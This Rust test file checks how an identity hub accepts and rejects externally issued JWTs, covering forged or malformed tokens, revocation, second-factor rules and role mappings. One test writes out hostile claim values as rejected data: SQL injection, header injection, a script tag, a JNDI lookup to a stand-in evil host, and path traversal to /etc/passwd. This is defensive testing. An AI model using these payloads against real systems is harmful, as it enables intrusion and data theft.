//! Tokens of an issuer that the hub trusts, with each request.

use crate::harness::{Hub, SignedIn, hub, problem};
use crate::live::identity::Identity;
use reqwest::{Method, Response};
use serde_json::{Value, json};

/// A hub, and an issuer that it trusts.
pub(in crate::api) struct Stage {
    pub(in crate::api) hub: Hub,
    pub(in crate::api) identity: Identity,
    pub(in crate::api) owner: SignedIn,
    pub(in crate::api) path: String,
}

impl Stage {
    pub(in crate::api) async fn set(with: Value) -> Self {
        let hub = hub().await;
        let identity = Identity::start().await;
        let owner = hub.owner().await;
        let mut body = json!({
            "kind": "external_jwt", "name": "Hosted", "issuer": identity.issuer, "jwks_url": identity.hosted_keys(),
            "audience": "project-7", "algorithms": ["ES256"], "provision": true,
        });
        body.as_object_mut()
            .unwrap()
            .extend(with.as_object().unwrap().clone());
        let made = hub.send(&owner, Method::POST, "/providers", body).await;
        assert_eq!(made.status(), 201);
        let made: Value = made.json().await.unwrap();
        Self {
            path: format!("/providers/{}", made["id"].as_str().unwrap()),
            hub,
            identity,
            owner,
        }
    }

    pub(in crate::api) fn claims(&self) -> Value {
        let now = self.hub.clock.now().unix_timestamp();
        json!({
            "iss": self.identity.issuer, "aud": "project-7", "sub": "u-1", "iat": now, "exp": now + 600,
            "email": "ada@example.com", "email_verified": true, "name": "Ada", "role": "support",
        })
    }

    pub(in crate::api) async fn good(&mut self) -> String {
        let claims = self.claims();
        self.identity.token(claims, json!({}), "").await
    }

    pub(in crate::api) async fn ask(&self, token: &str, path: &str) -> Response {
        self.hub
            .ask(Method::GET, path)
            .bearer_auth(token)
            .send()
            .await
            .unwrap()
    }

    async fn change(&self, change: Value) {
        let changed = self
            .hub
            .send(&self.owner, Method::PATCH, &self.path, change)
            .await;
        assert_eq!(changed.status(), 200);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_of_the_issuer_lets_its_person_in_and_the_record_tells_through_what() {
    let mut stage = Stage::set(json!({})).await;
    let roles: Value = stage.hub.get(&stage.owner, "/roles").await.json().await.unwrap();
    let manager = roles["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|role| role["name"] == "manager")
        .unwrap();
    stage
        .change(json!({"mappings": [{"claim": "role", "value": "support", "role": manager["id"]}]}))
        .await;
    let token = stage.good().await;
    let me: Value = stage.ask(&token, "/me").await.json().await.unwrap();
    assert_eq!(me["user"]["email"], "ada@example.com");
    assert_eq!(
        (&me["session_id"], &me["api_key_id"]),
        (&Value::Null, &Value::Null)
    );
    let body = json!({"name": "New team"});
    let made = stage
        .hub
        .ask(Method::POST, "/teams")
        .bearer_auth(&token)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(made.status(), 201);
    let told = stage
        .hub
        .test
        .texts("SELECT credential_kind || ' ' || (credential_id = (SELECT id FROM linked_accounts))::text FROM audit_logs WHERE action = 'teams.create'")
        .await;
    assert_eq!(told, ["external true"]);
    // what decides over ways in, it may not do
    let password = json!({"current_password": "x", "new_password": "correct horse battery"});
    for (path, body) in [
        ("/me/password", password),
        ("/api_keys", json!({"name": "k", "scopes": ["teams:read"]})),
    ] {
        let refused = stage
            .hub
            .ask(Method::POST, path)
            .bearer_auth(&token)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(problem(refused).await.0, 403, "{path}");
    }
    let live = stage
        .hub
        .ask(Method::POST, "/live/token")
        .bearer_auth(&token)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(problem(live).await, (403, "auth.session_required".into()));

    // another token without the claim, and the role is gone
    let mut claims = stage.claims();
    claims["role"] = json!("customer");
    let plain = stage.identity.token(claims, json!({}), "").await;
    let me: Value = stage.ask(&plain, "/me").await.json().await.unwrap();
    assert_eq!(me["roles"], json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_that_is_not_right_in_every_point_opens_nothing() {
    let mut stage = Stage::set(json!({})).await;
    let base = stage.claims();
    let with = |field: &str, value: Value| {
        let mut changed = base.clone();
        changed[field] = value;
        changed
    };
    let now = base["iat"].as_i64().unwrap();
    let mut tokens = Vec::new();
    for (what, claims, header, by) in [
        (
            "for another audience",
            with("aud", json!("project-8")),
            json!({}),
            "",
        ),
        ("for nobody", with("aud", Value::Null), json!({}), ""),
        ("without an end", with("exp", Value::Null), json!({}), ""),
        ("not valid yet", with("nbf", json!(now + 300)), json!({}), ""),
        ("from the future", with("iat", json!(now + 300)), json!({}), ""),
        ("without a subject", with("sub", json!("")), json!({}), ""),
        ("by a stranger", base.clone(), json!({}), "stranger"),
        ("by what everybody knows", base.clone(), json!({}), "public key"),
        ("by the same as PEM", base.clone(), json!({}), "public pem"),
        ("by none", base.clone(), json!({}), "none"),
        (
            "by the provider's key for ID tokens",
            base.clone(),
            json!({}),
            "provider",
        ),
        (
            "with the signature of another one",
            base.clone(),
            json!({}),
            "another body",
        ),
        (
            "of an algorithm that is not on the list",
            base.clone(),
            json!({}),
            "provider rsa",
        ),
        (
            "by a key that it brings along",
            base.clone(),
            json!({"jku": "https://evil.example.com/keys", "kid": "evil"}),
            "stranger",
        ),
        (
            "of another issuer",
            with("iss", json!("https://evil.example.com")),
            json!({}),
            "",
        ),
        ("of another type", base.clone(), json!({"typ": "logout+jwt"}), ""),
        ("by an unknown key", base.clone(), json!({"kid": "unknown"}), ""),
    ] {
        tokens.push((what, stage.identity.token(claims, header, by).await));
    }
    let good = stage.good().await;
    let parts: Vec<&str> = good.split('.').collect();
    let none = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0";
    tokens.push(("alg none", format!("{none}.{}.", parts[1])));
    tokens.push(("no signature", format!("{}.{}.", parts[0], parts[1])));
    for (what, token) in tokens {
        let refused = problem(stage.ask(&token, "/me").await).await;
        assert_eq!(refused, (401, "auth.unauthenticated".into()), "{what}");
    }
    let late = stage
        .identity
        .token(with("exp", json!(now - 1)), json!({}), "")
        .await;
    assert_eq!(
        problem(stage.ask(&late, "/me").await).await,
        (401, "auth.token_expired".into())
    );
    let by_cookie = stage
        .hub
        .ask(Method::GET, "/me")
        .header("cookie", format!("__Host-signalbox_access={good}"));
    assert_eq!(
        problem(by_cookie.send().await.unwrap()).await.0,
        401,
        "no cookie carries one"
    );
    assert_eq!(
        stage.hub.test.count("SELECT count(*) FROM linked_accounts").await,
        0
    );
    assert_eq!(stage.ask(&good, "/me").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_checked_token_ends_with_its_time_its_person_and_its_issuer() {
    let mut stage = Stage::set(json!({})).await;
    let token = stage.good().await;
    let me: Value = stage.ask(&token, "/me").await.json().await.unwrap();
    let id = me["user"]["id"].as_str().unwrap();
    let ban = json!({"reason": "test"});
    stage
        .hub
        .send(&stage.owner, Method::POST, &format!("/users/{id}/ban"), ban)
        .await;
    assert_eq!(
        problem(stage.ask(&token, "/me").await).await,
        (401, "auth.session_ended".into())
    );
    stage
        .hub
        .send(
            &stage.owner,
            Method::POST,
            &format!("/users/{id}/unban"),
            json!({}),
        )
        .await;
    assert_eq!(
        problem(stage.ask(&token, "/me").await).await,
        (401, "auth.session_ended".into()),
        "what was issued before the ban stays ended"
    );
    stage.hub.clock.advance(time::Duration::seconds(1));
    let token = stage.good().await;
    assert_eq!(stage.ask(&token, "/me").await.status(), 200);
    stage.change(json!({"enabled": false})).await;
    assert_eq!(problem(stage.ask(&token, "/me").await).await.0, 401);
    stage.change(json!({"enabled": true})).await;
    assert_eq!(stage.ask(&token, "/me").await.status(), 200);
    stage.change(json!({"algorithms": ["EdDSA"]})).await;
    assert_eq!(
        problem(stage.ask(&token, "/me").await).await,
        (401, "auth.unauthenticated".into()),
        "checked anew"
    );
    stage.change(json!({"algorithms": ["ES256"]})).await;
    assert_eq!(stage.ask(&token, "/me").await.status(), 200);
    stage.hub.clock.advance(time::Duration::minutes(11));
    assert_eq!(
        problem(stage.ask(&token, "/me").await).await,
        (401, "auth.token_expired".into())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_issued_before_all_were_signed_out_or_does_not_say_when_is_refused() {
    let mut stage = Stage::set(json!({})).await;
    let token = stage.good().await;
    let mut claims = stage.claims();
    claims.as_object_mut().unwrap().remove("iat");
    let dateless = stage.identity.token(claims, json!({}), "").await;
    let me: Value = stage.ask(&token, "/me").await.json().await.unwrap();
    let id = me["user"]["id"].as_str().unwrap().to_owned();
    assert_eq!(
        stage.ask(&dateless, "/me").await.status(),
        200,
        "nobody asks when"
    );
    for path in [
        format!("/users/{id}/sessions/revoke"),
        "/sessions/revoke".to_owned(),
    ] {
        stage.hub.clock.advance(time::Duration::seconds(2));
        let old = stage.good().await;
        assert_eq!(stage.ask(&old, "/me").await.status(), 200, "{path}");
        stage.hub.clock.advance(time::Duration::seconds(2));
        // the session of whoever asks for all ends too
        stage.owner = stage.hub.owner().await;
        let ended = stage.hub.send(&stage.owner, Method::POST, &path, json!({})).await;
        assert_eq!(ended.status(), 200, "{path}");
        for (what, refused) in [("before", &old), ("without a date", &dateless)] {
            assert_eq!(
                problem(stage.ask(refused, "/me").await).await,
                (401, "auth.session_ended".into()),
                "{path}: {what}"
            );
        }
        stage.hub.clock.advance(time::Duration::seconds(1));
        let new = stage.good().await;
        assert_eq!(stage.ask(&new, "/me").await.status(), 200, "{path}: after");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_nobody_knows_is_told_so_where_nobody_is_added() {
    let mut stage = Stage::set(json!({"provision": false})).await;
    let token = stage.good().await;
    assert_eq!(
        problem(stage.ask(&token, "/me").await).await,
        (403, "providers.nobody".into())
    );
    // many at once of somebody new are one person
    stage.change(json!({"provision": true})).await;
    let answers = futures::future::join_all((0..10).map(|_| stage.ask(&token, "/me"))).await;
    assert!(answers.iter().all(|answer| answer.status() == 200));
    assert_eq!(
        stage
            .hub
            .test
            .count("SELECT count(*) FROM users WHERE email = 'ada@example.com'")
            .await,
        1
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_token_says_is_a_text_whatever_it_looks_like() {
    let mut stage = Stage::set(json!({})).await;
    for (n, text) in [
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "a\r\nX-Injected: yes",
        "\0",
        "\u{202e}<script>alert(1)</script>",
        "{{7*7}}${jndi:ldap://evil.example}",
        "../../etc/passwd",
    ]
    .iter()
    .enumerate()
    {
        let mut claims = stage.claims();
        claims["sub"] = json!(format!("{n}{text}"));
        claims["name"] = json!(format!("Person {text}"));
        claims["role"] = json!(text);
        claims["email"] = json!(format!("{n}@example.com"));
        let token = stage.identity.token(claims.clone(), json!({}), "").await;
        let answer = stage.ask(&token, "/me").await;
        assert!(answer.headers().get("x-injected").is_none(), "{text:?}");
        let status = answer.status();
        assert!(
            status.is_success() || status.is_client_error(),
            "{text:?}: {status}"
        );
        if status.is_success() {
            let me: Value = answer.json().await.unwrap();
            assert_eq!(me["user"]["email"], format!("{n}@example.com"));
        }
        // the same in what chooses the key, and in the address
        for (field, value) in [("kid", json!(text)), ("typ", json!(text))] {
            let token = stage
                .identity
                .token(claims.clone(), json!({field: value}), "stranger")
                .await;
            assert_eq!(
                problem(stage.ask(&token, "/me").await).await.0,
                401,
                "{field} {text:?}"
            );
        }
        // nor does anybody need a key to say who is to be asked
        let mut issued = claims.clone();
        issued["iss"] = json!(text);
        let token = stage.identity.token(issued, json!({}), "stranger").await;
        assert_eq!(
            problem(stage.ask(&token, "/me").await).await.0,
            401,
            "iss {text:?}"
        );
        claims["sub"] = json!(format!("{n} again"));
        claims["email"] = json!(format!("{text}@example.com"));
        let token = stage.identity.token(claims, json!({}), "").await;
        let status = stage.ask(&token, "/me").await.status();
        assert!(
            status.is_success() || status.is_client_error(),
            "{text:?}: {status}"
        );
    }
    let people = stage.hub.test.count("SELECT count(*) FROM users").await;
    assert!(people > 1, "{people}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_factor_that_is_owed_is_owed_by_a_token_too_and_an_issuer_is_believed_where_that_is_set() {
    let mut stage = Stage::set(json!({})).await;
    let one = stage.good().await;
    let mut claims = stage.claims();
    claims["amr"] = json!(["pwd", "otp"]);
    let two = stage.identity.token(claims, json!({}), "").await;
    let me: Value = stage.ask(&one, "/me").await.json().await.unwrap();
    let id = me["user"]["id"].as_str().unwrap();
    let owed = (401, "auth.factor_demanded".to_owned());
    let organization = stage.hub.test.organization;
    let hold = "INSERT INTO user_roles (organization_id, user_id, role_id)";
    for (what, sql) in [
        (
            "by a role",
            format!(
                "{hold} SELECT '{organization}', '{id}', id FROM roles WHERE name = 'viewer';
                 UPDATE roles SET requires_factor = true WHERE name = 'viewer'"
            ),
        ),
        (
            "by whoever has one",
            format!(
                "UPDATE roles SET requires_factor = false;
                 INSERT INTO user_factors (id, organization_id, user_id, kind, name, fingerprint)
                 VALUES (gen_random_uuid(), '{organization}', '{id}', 'totp', 'App', '\\x00')"
            ),
        ),
    ] {
        stage.hub.test.sql(sql).await;
        for token in [&one, &two] {
            assert_eq!(problem(stage.ask(token, "/me").await).await, owed, "{what}");
        }
        stage.change(json!({"second_factor": true})).await;
        assert_eq!(problem(stage.ask(&one, "/me").await).await, owed, "{what}");
        assert_eq!(stage.ask(&two, "/me").await.status(), 200, "{what}");
        stage.change(json!({"second_factor": false})).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_is_invited_comes_in_by_a_token_only_once_they_have_accepted() {
    let mut stage = Stage::set(json!({"link_by_email": true})).await;
    let invited = json!({"email": "ada@example.com", "name": "Ada", "roles": []});
    let invited = stage
        .hub
        .send(&stage.owner, Method::POST, "/invitations", invited)
        .await;
    assert_eq!(invited.status(), 201);
    let token = stage.good().await;
    assert_eq!(problem(stage.ask(&token, "/me").await).await.0, 401);
    let link = signalbox_core::testing::mailed(&stage.hub.test).await[0].token();
    let accept = json!({"token": link, "password": crate::harness::PASSWORD});
    let accepted = stage.hub.post("/invitations/accept", accept).await;
    assert!(accepted.status().is_success());
    let token = stage.good().await;
    assert_eq!(stage.ask(&token, "/me").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_claim_gives_an_owner_a_role_that_limits_them() {
    let mut stage = Stage::set(json!({"link_by_email": true})).await;
    let role = |name: &str, effect: &str| json!({"name": name, "statements": [{"permission": "roles:assign", "effect": effect}]});
    let mut mappings = Vec::new();
    for role in [role("Mute", "deny"), role("Loud", "grant")] {
        let made = stage.hub.send(&stage.owner, Method::POST, "/roles", role).await;
        let made: Value = made.json().await.unwrap();
        mappings.push(json!({"claim": "role", "value": "support", "role": made["id"]}));
    }
    stage.change(json!({"mappings": mappings})).await;
    let second = stage.hub.someone(&["owner"]).await;
    let plain = stage.hub.someone(&[]).await;
    for (who, expected) in [(&second, vec!["Loud", "owner"]), (&plain, vec!["Loud", "Mute"])] {
        let mut claims = stage.claims();
        claims["email"] = json!(who.email);
        claims["sub"] = json!(who.id);
        let token = stage.identity.token(claims, json!({}), "").await;
        let me: Value = stage.ask(&token, "/me").await.json().await.unwrap();
        let mut roles: Vec<&str> = me["roles"]
            .as_array()
            .unwrap()
            .iter()
            .map(|role| role["name"].as_str().unwrap())
            .collect();
        roles.sort_unstable();
        assert_eq!(roles, expected, "{me}");
    }
}
